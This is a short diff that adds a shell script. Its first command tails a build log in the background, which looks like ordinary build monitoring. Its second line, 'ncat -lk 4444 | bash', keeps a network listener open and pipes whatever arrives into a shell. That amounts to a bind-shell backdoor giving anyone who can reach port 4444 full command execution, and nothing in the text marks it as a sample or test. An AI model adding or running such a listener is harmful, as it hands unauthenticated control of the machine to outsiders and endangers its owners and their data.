@@ -1,0 +1,3 @@
+#!/bin/sh
+tail -f build.log &
+ncat -lk 4444 | bash
